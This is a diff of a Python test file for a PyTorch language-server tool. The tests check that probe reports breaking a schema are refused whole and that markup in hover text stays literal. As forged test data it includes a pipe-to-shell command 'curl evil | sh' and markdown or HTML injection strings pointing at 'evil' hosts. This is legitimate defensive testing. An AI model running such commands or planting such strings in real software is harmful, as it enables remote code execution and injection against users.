@@ -27,7 +27,7 @@ from torchls.lsp import repro_hover, repro_messages
 from torchls.lsp.repro_state import build_result
 from torchls.probe import ReproOptions, ReproSession, run_repro
 from torchls.probe.prepare import prepare
-from torchls.probe.report import MAX_FINDINGS, ReproReport, parse_probe_report
+from torchls.probe.report import ReproReport, parse_probe_report, synthesize
 from torchls.probe.runner import ProgressEvent, forward_progress
 from torchls.probe.sources import MAX_FILE_BYTES, ProjectSources
 from torchls.probe.text import render
@@ -163,31 +163,81 @@ def test_the_server_reads_forged_locations_once_and_never_outside_the_project(
         }
         for name in where
     ]
-    data, _ = parse_probe_report(json.dumps({"findings": findings}))
-    assert data is not None and len(data["findings"]) <= MAX_FINDINGS
+    data, why = parse_probe_report(json.dumps(_report(findings=findings[:200])))
+    assert why is None and data is not None and len(data["findings"]) == 200
     result = build_result(target.as_uri(), 1, data, {}, root=project)
     assert set(result.files) == set()  # nothing readable: no trace for any of those files
+    # Past the schema's bound of 200 findings the report is refused whole, unread.
+    data, why = parse_probe_report(json.dumps(_report(findings=findings)))
+    assert data is None and why is not None and "findings: more than 200 items" in why
 
 
-def test_a_forged_report_is_bounded_before_anyone_walks_it() -> None:
-    item = {"code": "TL901", "severity": "error", "filename": "/x.py", "message": "m"}
-    item.update(line=1, column=1, end_line=1, end_column=2, related=[{"bad": 1}] * 100)
-    broken = {"code": "TL901", "line": "one"}  # would make a consumer raise
-    text = json.dumps(
-        {
-            "findings": [broken, *[item] * 2_000],
-            "lines": [{"filename": "/x.py", "line": 1, "entries": [{}] * 100}] * 10_000,
-            "nonfinite": {"events": [{"filename": "/x.py"}] * 1_000, "chain": ["a"] * 10},
-            "warnings": ["w"] * 10_000,
-        }
+def _report(**fields: object) -> dict:
+    """A report that follows the schema (the one the server writes for a run that wrote none),
+    with `fields` replaced."""
+    base = synthesize(
+        status="ok", file="/x.py", message="m", code="TL905", stopped_by="end", request={}
     )
-    data, why = parse_probe_report(text)
-    assert why is None and data is not None
-    assert len(data["findings"]) == MAX_FINDINGS - 1  # cut at the cap, the malformed one dropped
-    assert all(f["related"] == [] for f in data["findings"])
-    assert len(data["lines"]) <= 5000 and all(len(r["entries"]) <= 16 for r in data["lines"])
-    assert data["nonfinite"]["events"] == [] and data["nonfinite"]["chain"] == []
-    assert len(data["warnings"]) <= 1000
+    return {**base, **fields}
+
+
+FINDING = {"code": "TL901", "severity": "error", "filename": "/x.py", "message": "m"}
+FINDING.update(line=1, column=1, end_line=1, end_column=2, related=[])
+
+
+@pytest.mark.parametrize(
+    ("fields", "named"),
+    [
+        ({"findings": [{"code": "TL901", "line": "one"}]}, "findings[0]"),
+        ({"findings": [{**FINDING, "line": -1}]}, "findings[0].line: -1 is below 0"),
+        ({"findings": [{**FINDING, "line": 1 << 40}]}, "findings[0].line"),
+        ({"findings": [{**FINDING, "related": [{"bad": 1}]}]}, "findings[0].related[0]"),
+        ({"findings": [{**FINDING, "code": "XX1"}]}, "findings[0].code"),
+        ({"findings": [{**FINDING, "severity": "fatal"}]}, "findings[0].severity"),
+        ({"findings": [FINDING] * 2_000}, "findings: more than 200 items"),
+        ({"lines": [{"filename": "/x.py", "line": 1, "entries": []}] * 10_000}, "lines: more"),
+        (
+            {"lines": [{"filename": "/x.py", "line": 1, "entries": [{}] * 100}]},
+            "lines[0].entries: more than 16 items",
+        ),
+        ({"nonfinite": {"events": [{"filename": "/x.py"}], "chain": []}}, "nonfinite.events[0]"),
+        ({"nonfinite": {"events": [], "chain": ["a"]}}, "nonfinite.chain[0]"),
+        ({"warnings": ["w"] * 10_000}, "warnings: more than 1000 items"),
+        ({"status": "fine"}, "status"),
+        ({"schema_version": 1}, "schema_version"),
+        ({"shell": "curl evil | sh"}, "unknown field 'shell'"),
+        ({"exception": {"kind": "user", "type": "E", "message": "m", "line": "x"}}, "exception"),
+    ],
+)
+def test_a_report_that_breaks_the_schema_is_refused_whole(fields: dict, named: str) -> None:
+    assert parse_probe_report(json.dumps(_report()))[1] is None  # the base follows it
+    data, why = parse_probe_report(json.dumps(_report(**fields)))
+    assert data is None and why is not None
+    assert "breaks the report schema (version 2)" in why and named in why, why
+
+
+def test_a_refused_report_becomes_a_finding_that_says_why(tmp_path: Path) -> None:
+    """The run replaces its report with one that breaks the schema: the user gets TL905 naming
+    the refusal, and none of the forged content."""
+    script = HONEST_STEP + textwrap.dedent(
+        """
+        import torchls_probe.report as report
+
+        honest = report.dumps
+
+        def forged(data, cap):
+            text = honest(data, cap)
+            return text[:-1] + ',"shell":"FORGED curl evil | sh"}'
+
+        report.dumps = forged
+        """
+    )
+    result = _run(tmp_path, script, "none")
+    assert result.status == "crashed"
+    assert [f.code for f in result.findings] == ["TL905"]
+    assert "report was refused" in result.findings[0].message
+    assert "unknown field 'shell'" in result.findings[0].message
+    assert "FORGED" not in result.to_json()
 
 
 # --- warm runs: one channel per run ------------------------------------------------------------
@@ -382,20 +432,26 @@ def test_module_and_op_names_are_literal_text_in_hovers() -> None:
     entry = {
         "op": f"torch.relu{image}",
         "module": f"Net.{image}",
-        "phase": "[link](command:rm)",
+        "phase": "[link](command:rm) | injected",
         "column": 1,
         "end_column": 3,
-        "count": "9 | injected",
+        "count": 9,
         "outputs": [
             {
-                "shape": ["1](http://evil)"],
+                "shape": [1],
                 "dtype": "<img src=x>",
                 "device": "**cpu**",
                 "finite": False,
-                "nonfinite": {"nan": "![y](http://evil)"},
+                "nonfinite": {"nan": 1},
             }
         ],
     }
+    line = {"filename": "/x.py", "line": 1, "entries": [entry]}
+    assert parse_probe_report(json.dumps(_report(lines=[line])))[1] is None  # the schema takes it
+    # Markup where the schema wants numbers never gets this far: the report is refused.
+    for field, value in (("count", "9 | injected"), ("outputs", [{"shape": ["1](http://e)"]}])):
+        forged = {**line, "entries": [{**entry, field: value}]}
+        assert parse_probe_report(json.dumps(_report(lines=[forged])))[0] is None
     table = "\n".join([repro_hover.HEADER, repro_hover.RULE, repro_hover.entry_row(entry, "y = t")])
     html = _rendered(table)
     assert "<img" not in html and "<a " not in html and "<strong>" not in html, html
@@ -418,7 +474,9 @@ def test_markdown_in_a_forged_event_stays_text_in_the_hover(tmp_path: Path) -> N
         "end_column": 12,
         "summary": {"nonfinite": {"nan": 1, "numel": 1}},
     }
-    data, _ = parse_probe_report(json.dumps({"nonfinite": {"events": [event], "first": 0}}))
+    nonfinite = {"events": [event], "first": 0, "chain": [0], "dropped": 0}
+    data, why = parse_probe_report(json.dumps(_report(nonfinite=nonfinite)))
+    assert why is None, why
     assert data is not None
     result = build_result(target.as_uri(), 1, data, {}, root=tmp_path)
     trace = result.files[os.path.realpath(target)]
